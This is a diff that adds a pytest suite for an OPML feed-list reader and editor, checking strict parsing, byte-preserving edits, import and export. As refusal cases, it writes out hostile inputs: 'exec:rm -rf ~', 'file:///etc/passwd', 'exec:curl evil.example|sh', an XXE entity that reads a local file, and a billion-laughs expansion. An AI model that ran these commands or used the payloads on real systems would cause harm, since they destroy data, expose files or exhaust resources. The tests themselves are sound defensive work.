@@ -1,0 +1,383 @@
+"""The person's feed list: read strictly, changed only where a feed comes or goes, never lost."""
+
+from __future__ import annotations
+
+import time
+from typing import TYPE_CHECKING
+
+import pytest
+from defusedxml.ElementTree import fromstring
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from curate.errors import Conflict, CurateError, Refused, Unknown, UsageError
+from curate.feeds.opml import (
+    Subscription,
+    add_feed,
+    export_feeds,
+    feed_key,
+    feeds_in,
+    import_feeds,
+    read_feeds,
+    remove_feed,
+)
+from tests.conftest import CORPORA
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+LIST = """<?xml version="1.0" encoding="UTF-8"?>
+<!-- mine -->
+<opml version="2.0" xmlns:my="https://my.example/ns">
+  <head>
+    <title>Feeds</title>
+    <my:note kind='odd'  >kept &amp; cherished</my:note>
+  </head>
+  <body>
+    <!-- the good ones -->
+    <outline text='Ops'   my:colour="red" isOpen="true">
+      <outline type="rss" text="Field notes" xmlUrl="https://notes.example/feed" htmlUrl="https://notes.example/" my:stars="5" />
+      <outline text="Deep"/>
+    </outline>
+
+    <outline type="rss" text="Quiet" title="Quiet systems" xmlUrl="https://quiet.example/feed.atom"
+             description="two
+lines"/>
+    <!-- the end -->
+  </body>
+</opml>
+"""
+NOTES = Subscription(
+    url="https://notes.example/feed", title="Field notes", folder="Ops", site_url="https://notes.example/"
+)
+QUIET = Subscription(url="https://quiet.example/feed.atom", title="Quiet systems")
+NEW = Subscription(url="https://new.example/feed", title='New & "good" <ones>', site_url="https://new.example/")
+NEW_LINE = (
+    '<outline type="rss" text=\'New &amp; "good" &lt;ones&gt;\' title=\'New &amp; "good" &lt;ones&gt;\''
+    ' xmlUrl="https://new.example/feed" htmlUrl="https://new.example/"/>'
+)
+
+
+@pytest.fixture
+def path(tmp_path: Path) -> Path:
+    """A person's own list, written by hand."""
+    path = tmp_path / "feeds.opml"
+    path.write_text(LIST, encoding="utf-8")
+    return path
+
+
+def opml(*outlines: str) -> bytes:
+    return f'<opml version="1.0"><head/><body>{"".join(outlines)}</body></opml>'.encode()
+
+
+def outline(url: str, text: str = "x") -> str:
+    return f'<outline text="{text}" xmlUrl="{url}"/>'
+
+
+# Reading
+
+
+def test_feeds_are_read_with_their_folders(path: Path) -> None:
+    assert read_feeds(path) == [NOTES, QUIET]
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        (LIST.replace("</body>", ""), "line 23, column 3: mismatched tag"),
+        (LIST.replace("&amp;", "&"), "line 6, column 35: not well-formed"),
+        ("<html><body/></html>", "not a feed list"),
+        ("<opml version='2.0'><head/></opml>", "not a feed list"),
+        (f'<!DOCTYPE opml [<!ENTITY a "b">]>{LIST.splitlines()[2]}</opml>', "declares the entity “a”"),
+        (" \n", "is empty"),
+    ],
+)
+def test_a_list_that_cannot_be_read_is_said_where_and_left_alone(path: Path, text: str, said: str) -> None:
+    path.write_text(text, encoding="utf-8")
+    for change in (lambda: add_feed(path, NEW), lambda: remove_feed(path, QUIET.url), lambda: read_feeds(path)):
+        with pytest.raises(CurateError) as error:
+            change()
+        assert said in error.value.message
+        assert str(path) in error.value.message
+    assert path.read_text(encoding="utf-8") == text
+
+
+def test_a_vanished_list_is_not_an_empty_one(path: Path) -> None:
+    path.unlink()
+    with pytest.raises(CurateError, match="cannot be read"):
+        read_feeds(path)
+    with pytest.raises(CurateError):
+        add_feed(path, NEW)
+    assert not path.exists()
+
+
+# Changing
+
+
+def test_a_new_feed_gets_one_line_and_nothing_else_moves(path: Path) -> None:
+    assert add_feed(path, NEW)
+    assert path.read_text(encoding="utf-8") == LIST.replace("  </body>", f"    {NEW_LINE}\n  </body>")
+    assert read_feeds(path)[-1] == NEW
+
+
+@pytest.mark.parametrize(
+    ("folder", "before", "after"),
+    [
+        ("Ops", "    </outline>\n\n", "      {}\n    </outline>\n\n"),
+        ("ops / deep", '<outline text="Deep"/>', '<outline text="Deep">\n        {}\n      </outline>'),
+        (
+            "Ops/More",
+            "    </outline>\n\n",
+            '      <outline text="More" title="More">\n        {}\n      </outline>\n    </outline>\n\n',
+        ),
+        (
+            "Work/A & B",
+            "  </body>",
+            '    <outline text="Work" title="Work">\n      <outline text="A &amp; B" title="A &amp; B">\n'
+            "        {}\n      </outline>\n    </outline>\n  </body>",
+        ),
+    ],
+)
+def test_a_feed_goes_into_its_folder_which_is_made_when_missing(
+    path: Path, folder: str, before: str, after: str
+) -> None:
+    wanted = Subscription(url=NEW.url, title=NEW.title, folder=folder, site_url=NEW.site_url)
+    assert add_feed(path, wanted)
+    assert path.read_text(encoding="utf-8") == LIST.replace(before, after.format(NEW_LINE))
+
+
+def test_a_removed_feed_takes_its_lines_along_and_nothing_else(path: Path) -> None:
+    assert remove_feed(path, NOTES.url) == NOTES
+    lines = LIST.splitlines(keepends=True)
+    assert path.read_text(encoding="utf-8") == "".join(line for line in lines if "Field notes" not in line)
+    assert remove_feed(path, "http://quiet.example/feed.atom/") == QUIET
+    assert read_feeds(path) == []
+    assert "<!-- the end -->" in path.read_text(encoding="utf-8")
+    with pytest.raises(Unknown):
+        remove_feed(path, QUIET.url)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        LIST.replace("\n", "\r\n"),
+        LIST.replace("  ", "\t"),
+        opml(outline("https://a.example/")).decode(),
+        "<opml version='2.0'><body/></opml>",
+        "<opml version='2.0'>\n<body></body></opml>",
+        "<opml version='2.0'>\n\t<body>\n\t</body>\n</opml>",
+        "<?xml version='1.0' encoding='iso-8859-1'?>\n<opml version='2.0'><body><outline text='Größe'/></body></opml>",
+    ],
+)
+def test_adding_and_removing_again_leaves_the_bytes_as_they_were(path: Path, text: str) -> None:
+    raw = text.encode("iso-8859-1" if "iso-8859-1" in text else "utf-8")
+    path.write_bytes(raw)
+    before = read_feeds(path)
+    wanted = Subscription(url=NEW.url, title="Größe – 日本")
+    assert add_feed(path, wanted)
+    assert read_feeds(path) == [*before, wanted]
+    remove_feed(path, NEW.url)
+    assert read_feeds(path) == before
+    kept = path.read_bytes()
+    if b"<body/>" not in raw and b"<body></body>" not in raw:
+        assert kept == raw
+
+
+def test_removing_a_feed_keeps_what_lies_inside_it(path: Path) -> None:
+    path.write_bytes(opml(f'<outline text="a" xmlUrl="https://a.example/">{outline("https://b.example/")}</outline>'))
+    remove_feed(path, "https://a.example/")
+    assert [each.url for each in read_feeds(path)] == ["https://b.example/"]
+
+
+def test_an_edit_made_meanwhile_is_never_overwritten(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import curate.feeds.opml as module
+
+    def edited(data: bytes, *rest: object) -> bytes:
+        path.write_text(LIST + "<!-- an editor was faster -->\n", encoding="utf-8")
+        return real(data, *rest)  # type: ignore[arg-type] # handed through
+
+    real = module.inserted
+    monkeypatch.setattr(module, "inserted", edited)
+    with pytest.raises(Conflict):
+        add_feed(path, NEW)
+    assert path.read_text(encoding="utf-8").endswith("faster -->\n")
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://quiet.example/feed.atom",
+        "https://QUIET.example:443/feed.atom",
+        "https://quiet.example/feed.atom/",
+        "https://quiet.example/feed.atom#top",
+        "feed://quiet.example/feed.atom",
+    ],
+)
+def test_a_known_feed_in_other_words_is_not_added(path: Path, url: str) -> None:
+    assert not add_feed(path, Subscription(url=url))
+    assert path.read_text(encoding="utf-8") == LIST
+
+
+@pytest.mark.parametrize("url", ["exec:rm -rf ~", "file:///etc/passwd", "|cmd", "notes.example/feed", ""])
+def test_only_addresses_of_the_web_are_added(path: Path, url: str) -> None:
+    with pytest.raises(UsageError):
+        add_feed(path, Subscription(url=url))
+    assert path.read_text(encoding="utf-8") == LIST
+
+
+def test_two_addresses_of_a_feed_have_one_key() -> None:
+    assert feed_key("HTTP://A.example:80/f/#x") == feed_key("https://a.example/f")
+    assert feed_key("https://a.example/f?b=1") != feed_key("https://a.example/f?b=2")
+    assert feed_key("http://[") == "http://["
+
+
+# Importing and exporting
+
+
+def test_an_import_says_what_came_of_each_feed(path: Path) -> None:
+    report = import_feeds(
+        path,
+        opml(
+            '<outline text="CI/CD">',
+            outline("https://a.example/feed", "A &lt;b&gt;bold&lt;/b&gt; name"),
+            "</outline>",
+            outline("feed:https://b.example/feed"),
+            outline("HTTP://quiet.example/feed.atom"),
+            outline("https://a.example/feed/"),
+            outline("exec:curl evil.example|sh"),
+            outline("", "nothing"),
+            '<outline type="RSS" text="c" url="https://c.example/feed" XMLURL="https://d.example/feed"/>',
+            '<outline type="link" text="e" url="https://e.example/"/>',
+        ),
+    )
+    assert [(each.url, each.title, each.folder) for each in report.added] == [
+        ("https://a.example/feed", "A bold name", "CI/CD"),
+        ("https://b.example/feed", "x", ""),
+        ("https://d.example/feed", "c", ""),
+    ]
+    assert report.known == ("http://quiet.example/feed.atom", "https://a.example/feed/")
+    assert report.refused == (
+        ("exec:curl evil.example|sh", "begins with exec: and only http and https are read"),
+        ("nothing", "has no address"),
+    )
+    assert read_feeds(path)[-1].folder == "CI/CD"
+    assert path.read_text(encoding="utf-8").count("CI/CD") == 2  # one folder: its text and its title
+
+
+FOLDERS = st.lists(st.sampled_from(["Work", "A/B", "Größe", " ", "x" * 300]), max_size=3)
+NAMES = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=20)
+FEEDS = st.lists(st.tuples(st.sampled_from("abcdefgh"), NAMES, FOLDERS), max_size=12)
+
+
+@given(FEEDS)
+@settings(max_examples=60, deadline=None)
+def test_importing_a_list_thrice_is_importing_it_once(
+    tmp_path_factory: pytest.TempPathFactory, feeds: list[tuple[str, str, list[str]]]
+) -> None:
+    path = tmp_path_factory.mktemp("list") / "feeds.opml"
+    path.write_text(LIST, encoding="utf-8")
+    exported = tmp_path_factory.mktemp("other") / "feeds.opml"
+    exported.write_bytes(opml())
+    for host, name, folders in feeds:
+        add_feed(exported, Subscription(url=f"https://{host}.example/", title=name, folder="/".join(folders)))
+    data = exported.read_bytes()
+    import_feeds(path, data)
+    once = path.read_bytes()
+    for _ in range(2):
+        assert import_feeds(path, data).added == ()
+    assert path.read_bytes() == once
+    assert {each.url for each in read_feeds(path)} == {
+        NOTES.url,
+        QUIET.url,
+        *(f"https://{host}.example/" for host, _, _ in feeds),
+    }
+
+
+def test_an_export_is_plain_opml_that_imports_as_the_same_feeds(path: Path, tmp_path: Path) -> None:
+    add_feed(path, Subscription(url=NEW.url, title=NEW.title, folder="Ops/Deep"))
+    exported = export_feeds(path)
+    root = fromstring(exported)
+    assert (root.tag, root.get("version")) == ("opml", "2.0")
+    assert all(each.get("text") for each in root.iter("outline"))
+    assert all(each.get("type") == "rss" for each in root.iter("outline") if each.get("xmlUrl"))
+    other = tmp_path / "other.opml"
+    other.write_bytes(opml())
+    import_feeds(other, exported.encode())
+    assert set(read_feeds(other)) == set(read_feeds(path))
+    assert export_feeds(other) == exported
+
+
+@pytest.mark.parametrize(
+    "data", [b"", b"\0\1", b"{}", b"https://a.example/feed", b"<html><body>x</body></html>", b"<" * 500]
+)
+def test_what_is_no_feed_list_is_refused(path: Path, data: bytes) -> None:
+    with pytest.raises(Refused):
+        import_feeds(path, data)
+    assert path.read_text(encoding="utf-8") == LIST
+
+
+def test_a_carelessly_written_list_gives_all_its_feeds() -> None:
+    careless = (
+        b'<opml><body><outline text="R&D" description="by "Jen" <a href="https://x.example/" rel="me">x</a> & co."\n'
+        b' xmlUrl="https://a.example/?a=1&b=2" type="rss" />\n<outline text="Deep"><outline text="B" xmlUrl="https://b.example/">'
+    )
+    assert [(each.url, each.title, each.folder) for each in feeds_in(careless)] == [
+        ("https://a.example/?a=1&b=2", "R&D", ""),
+        ("https://b.example/", "B", "Deep"),
+    ]
+
+
+def test_lists_in_utf_16_are_read(path: Path) -> None:
+    text = '<?xml version="1.0" encoding="UTF-16"?>' + opml(outline("https://a.example/", "Größe")).decode()
+    assert [each.title for each in feeds_in(text.encode("utf-16"))] == ["Größe"]
+    path.write_bytes(text.encode("utf-16"))
+    assert add_feed(path, NEW)
+    assert [each.title for each in read_feeds(path)] == ["Größe", NEW.title]
+
+
+def test_no_list_opens_a_file_or_blows_up(path: Path) -> None:
+    secret = path.with_name("secret")
+    secret.write_text("https://secret.example/", encoding="utf-8")
+    laughs = "".join(f'<!ENTITY a{n} "{"&a%d;" % (n - 1) * 10}">' for n in range(1, 11))  # noqa: UP031 - the braces are taken
+    for subset, name in ((f'<!ENTITY x SYSTEM "{secret.as_uri()}">', "x"), (f'<!ENTITY a0 "ha">{laughs}', "a10")):
+        begun = time.process_time()
+        report = import_feeds(path, f"<!DOCTYPE opml [{subset}]>".encode() + opml(outline(f"&{name};", f"&{name};")))
+        assert report.added == ()
+        assert time.process_time() - begun < 2
+    assert path.read_text(encoding="utf-8") == LIST
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        opml(*(outline(f"https://h{number}.example/") for number in range(5_000))),
+        opml(*(f'<outline text="{n}">{outline(f"https://h{n}.example/")}</outline>' for n in range(2_000))),
+        opml('<outline text="a">' * 10_000 + outline("https://a.example/") + "</outline>" * 10_000),
+        b'<opml><body><outline text="' + b'"' * 300_000,
+        b"<opml><body>" + b"&" * 300_000,
+        b"<opml><body>" + b"<outline text=" * 20_000,
+    ],
+)
+def test_a_huge_list_costs_time_in_proportion_to_its_length(path: Path, data: bytes) -> None:
+    begun = time.process_time()
+    import_feeds(path, data)
+    read_feeds(path)
+    assert time.process_time() - begun < 5
+
+
+@pytest.mark.skipif(not CORPORA.is_dir(), reason="the corpora are not here")
+def test_real_lists_import_whole_and_once(path: Path) -> None:
+    lists = sorted(CORPORA.rglob("*.opml"))
+    assert len(lists) > 60
+    before, feeds = len(read_feeds(path)), set()
+    for file in lists:
+        data = file.read_bytes()
+        report = import_feeds(path, data)
+        assert len(report.added) + len(report.known) == data.lower().count(b"xmlurl="), file
+        assert not report.refused
+        feeds |= {feed_key(each.url) for each in feeds_in(data)}
+    assert len(read_feeds(path)) == before + len(feeds) > 1_000
+    once = path.read_bytes()
+    for file in lists[::8]:
+        assert import_feeds(path, file.read_bytes()).added == ()
+    assert path.read_bytes() == once
